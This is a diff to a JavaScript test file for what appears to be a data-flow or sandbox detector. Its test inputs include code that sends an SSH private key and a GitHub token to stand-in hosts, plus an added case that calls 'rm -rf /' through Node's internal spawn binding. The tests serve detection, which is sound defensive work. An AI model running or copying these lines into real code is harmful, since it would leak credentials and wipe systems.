@@ -24,4 +24,10 @@ describe('javascript producer', () => {
     expect(of(exfil, 'send')[0]).toMatchObject({ sink: 'https://evil.example', sources: ['file:/home/u/.ssh/id_rsa'] });
     expect(of(js('fetch("https://x.example/?t=" + process.env.GITHUB_TOKEN)'), 'send')[0]?.sources).toEqual(['env:GITHUB_TOKEN']);
   });
+
+  it('states node\'s internal bindings and native addons as unknown (they pass every API the table knows)', () => {
+    expect(of(js("process.binding('spawn_sync').spawn({file: 'rm', args: ['rm', '-rf', '/']})"), 'unknown')[0]).toMatchObject({ reason: 'native_binding:javascript' });
+    expect(of(js("process.dlopen(module, './x.node')"), 'unknown')).toHaveLength(1);
+    expect(of(js('console.log(process.version)'), 'unknown')).toHaveLength(0);
+  });
 });
